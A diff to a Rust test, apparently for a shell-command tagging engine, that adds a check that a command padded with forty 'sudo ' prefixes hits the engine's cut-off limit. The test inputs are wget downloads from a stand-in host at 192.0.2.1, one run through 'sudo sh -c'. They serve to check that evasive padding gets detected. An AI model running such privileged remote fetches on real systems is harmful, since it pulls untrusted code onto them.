@@ -86,6 +86,7 @@ fn what_the_limits_cut_off_is_said() {
     let cut = |text: &str| engine().tag(&command(0, 1, "s", text)).cut;
     assert!(cut(&("true;".repeat(1100) + "wget http://192.0.2.1/x")));
     assert!(cut(&("$(".repeat(40) + "wget http://192.0.2.1/x")));
+    assert!(cut(&("sudo ".repeat(40) + "wget http://192.0.2.1/x")));
     assert!(!cut("sudo sh -c 'wget http://192.0.2.1/x'"));
 }
 
